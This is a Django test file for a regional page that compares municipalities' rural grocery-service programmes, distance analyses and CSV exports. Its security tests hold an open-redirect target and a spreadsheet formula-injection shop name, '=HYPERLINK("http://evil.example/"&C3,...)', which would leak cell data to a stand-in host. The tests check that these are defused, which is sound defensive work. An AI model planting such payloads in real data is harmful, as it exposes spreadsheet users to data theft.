"""The county page: every municipality side by side, the county's service analysis,
the CSV export, who may see it, and its bounded cost."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from lxml import html
from procrastinate.contrib.django.models import ProcrastinateJob

from accounts.tests.factories import UserFactory
from analysis.models import AnalysisJob, AnalysisResult
from analysis.services import AnalysisError, runs, service_analysis_run
from analysis.tests.test_views import table
from core.testing import run_worker
from outlets.models import Outlet
from outlets.tests.factories import OutletFactory, municipality
from programme.tests.factories import ProgrammeGoalsFactory
from region.tests.worlds import county_of, in_force, two_municipalities

pytestmark = pytest.mark.django_db

COUNTY = reverse("region:county")
EXPORT = reverse("region:export")


def row_of(rows, name):
    return next(row for row in rows if row[0] == name)


def text_of(response):
    return " ".join(html.fromstring(response.content.decode()).text_content().split())


def csv_rows(response):
    return list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )


@pytest.fixture
def shops():
    return two_municipalities()


def analyse(codes=("2401", "2480")):
    """Store today's results, as the municipalities' own pages or the county
    page's background jobs would (the county page computes none itself)."""
    for code in codes:
        service_analysis_run(municipality=municipality(code))


@pytest.mark.smoke
def test_the_regional_viewer_sees_each_municipalitys_programme_side_by_side(
    client, regional_viewer, shops
):
    in_force(shops["A"], compensation=40_000, paid=20_000)
    OutletFactory(
        municipality=municipality("2480"), name="Ombudet i Umeå", kind="agent"
    )
    client.force_login(regional_viewer)

    response = client.get(COUNTY, {"year": 2026})

    assert response.status_code == 200
    rows = table(response, "Kommunerna 2026")
    # Outlets, service points, agreements in force, budget, committed, paid,
    # follow-ups done of due, goals met of set.
    assert row_of(rows, "Nordmaling")[1:] == [
        "2", "1", "1", "–", "40 000", "20 000", "0 av 0", "–"
    ]  # fmt: skip
    assert row_of(rows, "Umeå")[1:] == ["1", "0", "0", "–", "0", "0", "0 av 0", "–"]
    # Every municipality of the county, with or without outlets; those with lead
    # to their key figures.
    assert len(rows) == 15 + 1
    links = html.fromstring(response.content.decode()).xpath(
        "//table[starts-with(caption, 'Kommunerna')]//th/a/@href"
    )
    assert links == [
        "/reports/?municipality=2401&year=2026",
        "/reports/?municipality=2480&year=2026",
    ]
    assert rows[-1][:4] == ["Länet", "3", "1", "1"]


def test_each_municipalitys_goals_stand_against_its_outcome(
    client, regional_viewer, shops
):
    in_force(shops["A"], year=2025)
    ProgrammeGoalsFactory(year=2025, service_points=1, staff_trained=2)
    client.force_login(regional_viewer)

    response = client.get(COUNTY, {"year": 2025})

    assert row_of(table(response, "Kommunerna 2025"), "Nordmaling")[-1] == "1 av 2"
    assert row_of(table(response, "Kommunerna 2025"), "Umeå")[-1] == "–"
    assert table(response, "Programmets mål 2025") == [
        ["Nordmaling", "Servicepunkter med avtal i kraft", "1", "1", "Uppnått"],
        ["Nordmaling", "Personal utbildad", "2", "0", "Ej uppnått"],
    ]


def test_the_county_analysis_shows_people_by_band_per_municipality(
    client, regional_viewer, shops
):
    analyse()
    client.force_login(regional_viewer)

    response = client.get(COUNTY)

    rows = table(response, "Invånare efter avstånd till närmaste dagligvarubutik")
    # People, then 0–5, 5–10, 10–20, 20–30, 30 km or more (grids.py).
    assert row_of(rows, "Nordmaling")[1:7] == ["200", "130", "50", "0", "20", "0"]
    assert row_of(rows, "Umeå")[1:7] == ["10", "10", "0", "0", "0", "0"]
    assert row_of(rows, "Vindeln")[1:] == ["–"] * 6 + ["Ingen befolkning importerad"]
    assert rows[-1][:3] == ["Länet", "210", "140"]


def test_a_village_whose_nearest_shop_is_across_the_border_is_listed(
    client, regional_viewer, shops
):
    analyse()
    client.force_login(regional_viewer)

    response = client.get(COUNTY)

    rows = table(response, "Orter vars närmaste dagligvarubutik ligger i en annan")
    # Byn U in Umeå: shop B of Nordmaling at √5 km × 1.3; none in Umeå itself.
    assert rows == [["Byn U", "Umeå", "Handlarn B", "Nordmaling", "2,9", "ingen", "–"]]


def test_a_shop_serving_two_municipalities_is_listed_with_what_its_closure_costs(
    client, regional_viewer, shops
):
    analyse()
    client.force_login(regional_viewer)

    response = client.get(COUNTY)

    rows = table(response, "Försäljningsställen vars nedläggning skulle drabba")
    assert rows == [
        [
            "Handlarn B",
            "Nordmaling",
            "2",
            "40",
            "40",
            "Nordmaling 30 (30); Umeå 10 (10)",
        ]
    ]


def test_stored_results_are_read_not_computed_again(client, regional_viewer, shops):
    """The municipalities' own analysis pages stored today's results: the county
    page reads them and runs no analysis of its own."""
    analyse()
    stored = set(AnalysisResult.objects.values_list("pk", "computed_at"))
    client.force_login(regional_viewer)

    response = client.get(COUNTY)

    assert response.status_code == 200
    assert set(AnalysisResult.objects.values_list("pk", "computed_at")) == stored


def vasterbotten_viewer():
    return UserFactory(
        regional_viewer=True,
        email="region@vb.example",
        county=municipality("2401").county,
    )


BANDS = "Invånare efter avstånd till närmaste dagligvarubutik"


@pytest.mark.django_db(transaction=True)
def test_a_changed_register_is_computed_in_the_background_and_shown_when_done(
    client, municipalities_reloaded
):
    shops = two_municipalities()
    analyse()
    client.force_login(vasterbotten_viewer())
    Outlet.objects.filter(pk=shops["B"].pk).update(
        status=Outlet.Status.CLOSED, closed_on=date(2026, 11, 1)
    )

    waiting = client.get(COUNTY)
    again = client.get(COUNTY)

    # One job per municipality, however many ask; the old figures meanwhile.
    assert AnalysisJob.objects.filter(status="queued").count() == 2
    assert (
        ProcrastinateJob.objects.filter(
            task_name="analysis.analysis_job_run", status="todo"
        ).count()
        == 2
    )
    page = text_of(waiting)
    assert "Siffrorna beräknas." in page
    assert "2 kommuners serviceanalyser beräknas i bakgrunden: Nordmaling, Umeå." in (
        page
    )
    assert row_of(table(waiting, BANDS), "Umeå")[1:] == [
        "10", "10", "0", "0", "0", "0", "Inaktuell: beräknas"
    ]  # fmt: skip
    assert "data-status-url" in again.content.decode()
    status_url = html.fromstring(waiting.content.decode()).xpath(
        "//*[@data-status-url]/@data-status-url"
    )[0]
    assert client.get(status_url).json()["finished"] is False

    run_worker()

    assert client.get(status_url).json()["finished"] is True
    done = client.get(COUNTY)
    assert "Siffrorna beräknas." not in text_of(done)
    # Without B, Umeå's ten live 18.2 km from A.
    assert row_of(table(done, BANDS), "Umeå")[1:7] == ["10", "0", "0", "10", "0", "0"]


@pytest.mark.django_db(transaction=True)
def test_a_failed_computation_says_why_and_is_tried_again(
    client, municipalities_reloaded, monkeypatch
):
    two_municipalities()
    client.force_login(vasterbotten_viewer())
    client.get(COUNTY)

    def broken(*args, **kwargs):
        raise AnalysisError("Vägnätet kunde inte läsas.")

    monkeypatch.setattr(runs, "_result_computed", broken)
    run_worker()
    failed = client.get(COUNTY)

    assert AnalysisJob.objects.filter(status="failed").count() == 2
    failure = "Siffrorna för Nordmaling kunde inte beräknas. Vägnätet kunde inte läsas."
    assert failure in text_of(failed)
    assert row_of(table(failed, BANDS), "Umeå")[-1] == "kunde inte beräknas"
    # Failed stays failed on a reload: no new job until someone retries.
    assert not ProcrastinateJob.objects.filter(status="todo").exists()

    monkeypatch.undo()
    job = AnalysisJob.objects.get(municipality=municipality("2480"))
    retried = client.post(
        reverse("analysis:job_retry", args=[job.pk]), {"next": COUNTY + "?year=2026"}
    )
    assert retried["Location"] == COUNTY + "?year=2026"
    run_worker()

    page = client.get(COUNTY)
    assert "Siffrorna för Umeå kunde inte beräknas" not in text_of(page)
    assert "Siffrorna för Nordmaling kunde inte beräknas" in text_of(page)
    assert row_of(table(page, BANDS), "Umeå")[1:7] == ["10", "10", "0", "0", "0", "0"]


def test_a_retry_leads_back_only_to_this_site(client, regional_viewer, shops):
    client.force_login(regional_viewer)
    client.get(COUNTY)
    job = AnalysisJob.objects.get(municipality=municipality("2480"))

    response = client.post(
        reverse("analysis:job_retry", args=[job.pk]),
        {"next": "https://evil.example/"},
    )

    assert response["Location"] == reverse("analysis:analysis")


@pytest.mark.parametrize("size", [2, 15])
def test_the_page_takes_the_same_few_queries_for_2_or_15_municipalities(
    client, system_owner, django_assert_max_num_queries, size
):
    county = county_of(size)
    client.force_login(system_owner)
    # Each municipality's analysis stored, as their own pages would.
    analyse([place.code for place in county.municipalities.all()])

    with django_assert_max_num_queries(30):
        response = client.get(COUNTY, {"county": county.code, "year": 2026})

    rows = table(response, "Kommunerna 2026")
    assert len(rows) == size + 1
    assert rows[-1][:4] == ["Länet", str(size), "2", "2"]
    bands = table(response, "Invånare efter avstånd")
    assert bands[-1][:3] == ["Länet", str(50 * size), str(50 * size)]


def test_the_system_owner_chooses_the_county(client, system_owner, shops):
    OutletFactory(municipality=municipality("0188"), name="Butiken i Norrtälje")
    client.force_login(system_owner)

    response = client.get(COUNTY, {"county": "01"})

    assert response.status_code == 200
    assert "Stockholms län" in response.content.decode()
    rows = table(response, "Kommunerna")
    assert row_of(rows, "Norrtälje")[1] == "1"
    choices = html.fromstring(response.content.decode()).xpath(
        "//nav[@aria-label='Län']//a/text() | //nav[@aria-label='Län']//strong/text()"
    )
    assert choices == ["Stockholms län", "Västerbottens län"]


@pytest.mark.parametrize("role", ["official", "administrator", "shop_owner"])
def test_the_municipalities_staff_and_shop_owners_are_refused(client, request, role):
    client.force_login(request.getfixturevalue(role))

    assert client.get(COUNTY).status_code == 403
    assert client.get(EXPORT, {"table": "municipalities"}).status_code == 403


def test_a_regional_viewer_finds_no_other_county(client, regional_viewer):
    client.force_login(regional_viewer)

    assert client.get(COUNTY, {"county": "01"}).status_code == 404
    assert client.get(EXPORT, {"county": "01", "table": "bands"}).status_code == 404
    assert client.get(COUNTY, {"county": "xx"}).status_code == 404


def test_a_regional_viewer_of_another_county_sees_their_own(client):
    viewer = UserFactory(
        regional_viewer=True,
        email="region@stockholm.example",
        county=municipality("0188").county,
    )
    client.force_login(viewer)

    response = client.get(COUNTY)

    assert "Stockholms län" in response.content.decode()
    assert client.get(COUNTY, {"county": "24"}).status_code == 404


def test_the_navigation_and_start_page_lead_regional_viewers_there(
    client, regional_viewer, official
):
    client.force_login(regional_viewer)
    start = client.get(reverse("start"))
    assert COUNTY in [item["url"] for item in start.context["navigation"]]
    assert f'href="{COUNTY}"' in start.content.decode()

    client.force_login(official)
    start = client.get(reverse("start"))
    assert COUNTY not in [item["url"] for item in start.context["navigation"]]


HOSTILE = '=HYPERLINK("http://evil.example/"&C3,"Öppna")'


@pytest.mark.parametrize(
    ("wanted", "first_row"),
    [
        ("municipalities", ["Bjurholm", "0", "0", "0", "", "0", "0", "0 av 0", ""]),
        ("bands", ["Bjurholm", "", "", "", "", "", "", "Ingen befolkning importerad"]),
        ("borders", ["Byn U", "Umeå", "'" + HOSTILE, "Nordmaling", "2,9", "ingen", ""]),
        ("shared", ["'" + HOSTILE, "Nordmaling", "2", "40", "40"]),
    ],
)
def test_each_table_comes_as_csv_with_names_as_text(
    client, regional_viewer, shops, wanted, first_row
):
    Outlet.objects.filter(pk=shops["B"].pk).update(name=HOSTILE)
    analyse()
    client.force_login(regional_viewer)

    response = client.get(EXPORT, {"table": wanted, "year": 2026})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f"lan-24-2026-{wanted}.csv" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[1][: len(first_row)] == first_row


def test_an_unknown_table_is_not_found(client, regional_viewer):
    client.force_login(regional_viewer)

    assert client.get(EXPORT, {"table": "nonsense"}).status_code == 404
    assert client.get(EXPORT).status_code == 404
